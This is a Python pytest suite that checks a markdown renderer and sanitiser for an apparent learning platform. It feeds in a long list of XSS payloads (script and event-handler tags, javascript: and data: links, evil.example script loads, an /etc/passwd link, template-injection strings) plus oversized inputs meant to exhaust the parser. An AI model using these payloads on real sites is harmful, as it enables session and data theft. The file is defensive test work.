"""That no text becomes anything but text, whatever stands in it."""
# ruff: noqa: E501 - a payload is one line

from html.parser import HTMLParser

import pytest

from lms.errors import RefusalError
from lms.markup import explain_terms, render_inline, render_markdown
from lms.markup.sanitising import sanitise

# In the table below ⏎ stands for the end of a line.
_PAYLOADS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></ScRiPt>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<table><td><style><img src=x onerror=alert(1)></style></td></table>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<base href="https://evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<p style="background:url(javascript:alert(1))">x</p>
<!-- hidden <script>alert(1)</script> -->
<!-- never closed <script>alert(1)
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<div id="main" name="cookie">x</div>
<x onclick=alert(1)>x
<button popovertarget=x onclick=alert(1)>x</button>
<template><script>alert(1)</script></template>
"><script>alert(1)</script>
</section><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](java\tscript:alert(1))
[x](\x01javascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example/)
[x](/\\\\evil.example)
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example/ "title\\" onmouseover=alert(1)")
[x](policy:a"onclick="alert(1))
[x](policy:a#b"onclick="alert(1))
[x](#a"onclick="alert(1))
[x][r]⏎⏎[r]: javascript:alert(1)
[x][r]⏎⏎[r]: <javascript:alert(1)> "title"
![x](https://evil.example/x.png)
![x](javascript:alert(1))
![x" onerror="alert(1)](x.png)
<javascript:alert(1)>
<data:text/html,x>
<https://a.example/"onmouseover=alert(1)>
<a@b.example"onmouseover=alert(1)>
word {: onclick=alert(1) style=color:red }
word⏎{: onclick="alert(1)" style="color:red" id="main" class="sign" }
[x](https://a.example){: onclick=alert(1) target=_blank rel=opener }
*x*{: onclick=alert(1) }
## x {#a onclick=alert(1)}
## x {#a" onclick="alert(1)}
## <script>alert(1)</script> {#a}
## [x](javascript:alert(1)) {#a}
### <img src=x onerror=alert(1)>
## x" onmouseover="alert(1) {#a}
```html onclick=alert(1)⏎<script>alert(1)</script>⏎```
```⏎</code></pre><script>alert(1)</script>⏎```
`<script>alert(1)</script>`
    <script>alert(1)</script>
| <script>alert(1)</script> | b |⏎|---|---|⏎| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
Table: x" onclick="alert(1)⏎⏎| a | b |⏎|:-:|--:|⏎| c | d |
<script>⏎:   <img src=x onerror=alert(1)>
> <script>alert(1)</script>
- <script>alert(1)</script>⏎- [x](javascript:alert(1))
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
\\<script\\>alert(1)\\</script\\>
\x02wzxhzdk:0\x03
\x02klzzwxh:0001\x03<script>alert(1)</script>
\x00<script>alert(1)</script>
\u202e<script>alert(1)</script>
＜script＞alert(1)＜/script＞
{{ constructor.constructor('alert(1)')() }}
{% include '/etc/passwd' %}
---⏎kind: editorial⏎---⏎<script>alert(1)</script>"""
PAYLOADS = [line.replace("⏎", "\n") for line in _PAYLOADS.split("\n")]


ALLOWED = {
    "a",
    "blockquote",
    "br",
    "caption",
    "code",
    "dd",
    "div",
    "dl",
    "dt",
    "em",
    "h2",
    "h3",
    "h4",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "section",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "button",
    "dfn",
}
ATTRIBUTES = {
    "aria-label",
    "aria-labelledby",
    "class",
    "href",
    "id",
    "popover",
    "popovertarget",
    "rel",
    "role",
    "scope",
    "start",
    "tabindex",
    "type",
}
IDS = ("s-", "p-", "term-")


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not str(value).startswith(
                ("#s-", "/policies/", "https://a.example", "mailto:")
            ):
                self.faults.append(f"href {value}")
            if name == "id":
                self.ids.append(str(value))
                if not str(value).startswith(IDS):
                    self.faults.append(f"id {value}")

    def handle_comment(self, data):
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl):
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.faults.append(f"instruction {data}")


def inspect(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    doubled = [name for name in set(inspector.ids) if inspector.ids.count(name) > 1]
    return inspector.faults + doubled


SURROUNDINGS = {
    "alone": "{}",
    "in a section": "Standfirst.\n\n## Title {{#title}}\n\n{}\n\n### Below\n\nText {}\n",
    "in a list": "## Title {{#title}}\n\n- {}\n\n1. {}\n",
    "as a word": "## Title {{#title}}\n\n{}\n:   {}\n",
}


@pytest.mark.parametrize("around", SURROUNDINGS.values(), ids=SURROUNDINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_but_inert_marks_comes_out(payload, around):
    source = around.replace("{{", "\0").replace("}}", "\1").replace("{}", payload)
    source = source.replace("\0", "{").replace("\1", "}")

    rendered = render_markdown(source)
    explained = explain_terms(rendered.html, rendered.terms)

    assert inspect(rendered.html) == []
    assert inspect(explained) == []
    assert sanitise(rendered.html) == rendered.html
    assert [inspect(section.html) for section in rendered.sections] == [[]] * len(rendered.sections)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_short_texts_are_inert_too(payload):
    html = render_inline(payload)

    assert inspect(html) == []
    assert sanitise(html) == html


def test_enough_payloads_are_tried():
    assert len(PAYLOADS) >= 60


COSTLY = {
    "brackets": "[" * 100_000,
    "quotes": ">" * 100_000,
    "parentheses": "(" * 100_000,
    "stars": "*" * 100_000,
    "lists": "- " * 100_000,
    "numbers": "1. " * 100_000,
    "indentation": "- a\n" + " " * 200 + "- b",
    "size": "x " * 500_001,
    "lines": "a\n\n" * 20_000,
    "links": "[a](b)\n\n" * 5_001,
    "signs": ("*a " * 4_000 + "\n\n") * 13,
    "half a character": "a \ud800",
    "half a character in code": "```\n\ud800\n```",
    "one wide table": "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n",
    "cells": ("|a|b|\n|-|-|\n" + "|a|b|\n" * 500 + "\n") * 4,
    "one paragraph": "word\n" * 15_000,
}


@pytest.mark.parametrize("source", COSTLY.values(), ids=COSTLY)
def test_a_text_beyond_measure_is_refused_before_it_is_read(source):
    with pytest.raises(RefusalError):
        render_markdown(source)


def test_a_table_as_wide_as_paper_is_read():
    row = "|a" * 20 + "|\n"

    rendered = render_markdown(row + "|-" * 20 + "|\n" + row * 100)

    assert rendered.html.count("</td>") + rendered.html.count("</th>") == 2_020


def test_the_refusal_names_the_line_and_what_to_do():
    with pytest.raises(RefusalError) as refusal:
        render_markdown("a\n\n" + ">" * 31)

    assert str(refusal.value) == "Line 3: This is nested deeper than 30 levels. Lift it up."
